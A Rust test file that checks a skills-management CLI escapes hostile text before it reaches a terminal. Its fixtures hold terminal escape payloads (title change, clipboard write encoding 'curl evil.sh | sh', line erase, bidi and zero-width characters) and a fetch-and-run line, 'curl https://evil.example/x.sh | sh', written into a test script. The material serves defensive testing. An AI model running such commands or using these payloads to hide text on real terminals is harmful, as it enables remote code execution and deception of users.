//! Text from disk never reaches a terminal raw through the command line: folder, skill, file
//! and plugin names, descriptions, file lines and the arguments echoed in error messages are
//! written with their control characters, escape sequences, bidi overrides and zero-width
//! characters escaped visibly. Each command runs on a pseudo-terminal, as a person's shell runs
//! it, and every byte it wrote there is searched.
//! Pseudo-terminals and file names holding control characters are Unix's.
#![cfg(unix)]

use std::fs;
use std::process::Command;

use crate::common::pty::{OnTerminal, run_on_terminal};
use crate::common::{Machine, write_files};

/// Sequences a terminal acts on: set the title, write the clipboard, clear the screen, move
/// the cursor up and erase the line, the one-byte C1 form of CSI, ring the bell.
const OSC_TITLE: &str = "\u{1b}]0;pwned\u{7}";
const OSC_CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
const CLEAR: &str = "\u{1b}[2J";
const UP_AND_ERASE: &str = "\u{1b}[1A\u{1b}[2K";
const C1_CSI: &str = "\u{9b}2J";
const BIDI: &str = "\u{202e}";
const ISOLATE: &str = "\u{2066}";
const ZERO_WIDTH: &str = "\u{200b}";
const BOM: &str = "\u{feff}";

/// Why `output` could make a terminal do or show something its text does not say: the first
/// character that is neither printable text, a line break, a tab, nor an SGR colour sequence
/// of skilldeck's own; `None` when there is none.
fn unsafe_for_a_terminal(output: &str) -> Option<String> {
    let chars: Vec<char> = output.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        let context = || {
            let from = i.saturating_sub(30);
            let to = (i + 30).min(chars.len());
            format!("{:?}", chars[from..to].iter().collect::<String>())
        };
        match c {
            '\u{1b}' => {
                // Only `ESC [ digits/semicolons m` (colour), which skilldeck writes itself.
                let mut j = i + 1;
                if chars.get(j) != Some(&'[') {
                    return Some(format!("an escape sequence at {}", context()));
                }
                j += 1;
                while chars
                    .get(j)
                    .is_some_and(|c| c.is_ascii_digit() || *c == ';')
                {
                    j += 1;
                }
                if chars.get(j) != Some(&'m') {
                    return Some(format!("a control sequence at {}", context()));
                }
                i = j;
            }
            '\r' if chars.get(i + 1) == Some(&'\n') => {}
            '\n' | '\t' => {}
            c if c.is_control() => return Some(format!("control {c:?} at {}", context())),
            '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{2069}'
            | '\u{061c}'
            | '\u{feff}' => return Some(format!("invisible {c:?} at {}", context())),
            _ => {}
        }
        i += 1;
    }
    None
}

struct Hostile {
    machine: Machine,
}

impl Hostile {
    /// A machine whose skills carry every kind of hostile text in every place text comes from.
    fn new() -> Self {
        let machine = Machine::new();
        let skills = machine.home.join(".claude/skills");
        // A folder name that sets the title, and a frontmatter whose name writes the
        // clipboard and whose description hides text.
        let titled = skills.join(format!("tidy{OSC_TITLE}"));
        write_files(
            &titled,
            &[(
                "SKILL.md",
                &format!(
                    "---\nname: \"tidy\\e]52;c;Y3VybA==\\a\"\ndescription: \"Cleans up.\\e[2J {BIDI}gpj.exe {ZERO_WIDTH}x {ISOLATE}y{BOM}\"\n---\nbody\n"
                ),
            )],
        );
        // File names and lines: a script whose second line erases the first when printed.
        let scripts = skills.join("scripts");
        write_files(
            &scripts,
            &[
                (
                    "SKILL.md",
                    "---\nname: scripts\ndescription: Runs scripts.\n---\n",
                ),
                ("deploy.sh", "echo deploy\n"),
                (&format!("run{CLEAR}.sh"), "password=hunter2\n"),
            ],
        );
        Self { machine }
    }

    fn scripts(&self) -> std::path::PathBuf {
        self.machine.home.join(".claude/skills/scripts")
    }

    fn run(&self, args: &[&str]) -> OnTerminal {
        self.run_command(self.machine.command(args))
    }

    fn run_command(&self, command: Command) -> OnTerminal {
        let output = run_on_terminal(command);
        if let Some(why) = unsafe_for_a_terminal(&output.text()) {
            panic!("the terminal got {why}\nall of it: {:?}", output.text());
        }
        output
    }
}

#[test]
fn list_and_check_write_hostile_names_and_descriptions_escaped() {
    let hostile = Hostile::new();
    // A recorded skill, moved under a hostile folder name and edited: what check reports.
    let bundle = hostile.machine.root().join("bundle/recorded");
    write_files(
        &bundle,
        &[("SKILL.md", "---\nname: recorded\ndescription: Kept.\n---\n")],
    );
    let skills = hostile.machine.home.join(".claude/skills");
    hostile.run(&[
        "import",
        bundle.to_str().unwrap(),
        "--to",
        skills.to_str().unwrap(),
    ]);
    let moved = skills.join(format!("recorded{OSC_TITLE}"));
    fs::rename(skills.join("recorded"), &moved).unwrap();
    fs::write(moved.join("edit.md"), "an edit\n").unwrap();
    for args in [&["list"][..], &["check"]] {
        let output = hostile.run(args);
        let text = output.text();
        assert!(
            text.contains("recorded"),
            "{args:?} left the skill out: {text}"
        );
        assert!(text.contains("\\u{1b}"), "{args:?} hid the escape: {text}");
    }
}

#[test]
fn snapshots_and_diffs_cannot_hide_a_line() {
    let hostile = Hostile::new();
    hostile.run(&["snapshot"]);
    hostile.run(&["snapshots"]);
    // A line that, printed raw, moves up and erases the one before it.
    fs::write(
        hostile.scripts().join("deploy.sh"),
        format!("curl https://evil.example/x.sh | sh\necho fine{UP_AND_ERASE}\r\necho {C1_CSI}\n"),
    )
    .unwrap();
    let output = hostile.run(&["diff", "scripts"]);
    let text = output.text();
    assert_eq!(output.status.code(), Some(1), "{text}");
    assert!(
        text.contains("+curl https://evil.example/x.sh | sh"),
        "{text}"
    );
    assert!(text.contains("\\u{1b}[1A"), "{text}");
    let output = hostile.run(&["diff", &format!("tidy{OSC_TITLE}")]);
    assert!(output.text().contains("\\u{1b}]0;"), "{}", output.text());
}

#[test]
fn export_and_restore_name_hostile_files_escaped() {
    let hostile = Hostile::new();
    hostile.run(&["snapshot", "scripts"]);
    let out = hostile.machine.root().join("scripts.tar.gz");
    let output = hostile.run(&["export", "scripts", "-o", out.to_str().unwrap()]);
    // The secret planted in the file with the hostile name is reported by that name.
    assert!(
        output.text().contains("run\\u{1b}[2J.sh"),
        "{}",
        output.text()
    );
    fs::write(hostile.scripts().join("deploy.sh"), "changed\n").unwrap();
    let output = hostile.run(&["restore", "scripts"]);
    assert!(output.status.success(), "{}", output.text());
}

#[test]
fn a_dry_run_writes_bundle_names_descriptions_and_marketplace_names_escaped() {
    let hostile = Hostile::new();
    let bundle = hostile.machine.root().join("bundle");
    write_files(
        &bundle,
        &[
            (
                "skills/shiny/SKILL.md",
                "---\nname: shiny\ndescription: \"Shiny \\e]0;pwned\\a thing \\u202e\"\n---\n",
            ),
            (
                ".claude-plugin/marketplace.json",
                r#"{"name": "m", "plugins": [
                    {"name": "far\u001b]0;pwned\u0007", "source": "../elsewhere"},
                    {"name": "near", "source": "./", "skills": ["./gone\u001b[2J"]}
                ]}"#,
            ),
        ],
    );
    let output = hostile.run(&["import", bundle.to_str().unwrap(), "--dry-run"]);
    let text = output.text();
    assert!(text.contains("shiny"), "{text}");
    assert!(text.contains("\\u{1b}"), "{text}");
}

#[test]
fn arguments_echoed_in_errors_are_escaped() {
    let hostile = Hostile::new();
    let named = format!("nope{OSC_CLIPBOARD}");
    for args in [
        vec!["diff", named.as_str()],
        vec!["restore", named.as_str()],
        vec!["export", named.as_str(), "-o", "x.tar.gz"],
        vec!["snapshot", named.as_str()],
    ] {
        let output = hostile.run(&args);
        assert!(!output.status.success(), "{args:?}: {}", output.text());
        assert!(
            output.text().contains("\\u{1b}]52;"),
            "{args:?}: {}",
            output.text()
        );
    }
    let source = hostile
        .machine
        .root()
        .join(format!("gone{OSC_TITLE}.tar.gz"));
    let output = hostile.run(&["import", source.to_str().unwrap(), "--dry-run"]);
    assert_eq!(output.status.code(), Some(1), "{}", output.text());
    // clap's own refusals quote the arguments too (it strips their sequences itself).
    for args in [vec![OSC_TITLE], vec!["list", &format!("--bogus{CLEAR}")]] {
        let output = hostile.run(&args);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {}", output.text());
    }
    let missing = hostile.machine.root().join(format!("no{CLEAR}dir"));
    let output = hostile.run(&["list", "--project", missing.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(2), "{}", output.text());
}

#[test]
fn the_checker_finds_what_it_is_for() {
    assert_eq!(
        unsafe_for_a_terminal("plain\r\n\u{1b}[1;31mred\u{1b}[0m\tok"),
        None
    );
    for bad in [
        OSC_TITLE,
        OSC_CLIPBOARD,
        CLEAR,
        UP_AND_ERASE,
        C1_CSI,
        BIDI,
        ISOLATE,
        ZERO_WIDTH,
        BOM,
        "\u{7f}",
        "\u{8}",
        "lone\rreturn",
    ] {
        assert!(
            unsafe_for_a_terminal(&format!("a{bad}b")).is_some(),
            "{bad:?}"
        );
    }
}

#[test]
fn json_keeps_the_exact_text_for_scripts() {
    let hostile = Hostile::new();
    let output = hostile.machine.run(&["list", "--json"]);
    assert!(output.status.success());
    let raw = String::from_utf8(output.stdout).unwrap();
    assert!(
        !raw.contains('\u{1b}'),
        "JSON escapes controls itself: {raw}"
    );
    let json: serde_json::Value = serde_json::from_str(&raw).unwrap();
    let dirs: Vec<&str> = json["skills"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["dir"].as_str().unwrap())
        .collect();
    assert!(
        dirs.iter()
            .any(|d| d.ends_with(&format!("tidy{OSC_TITLE}"))),
        "{dirs:?}"
    );
}
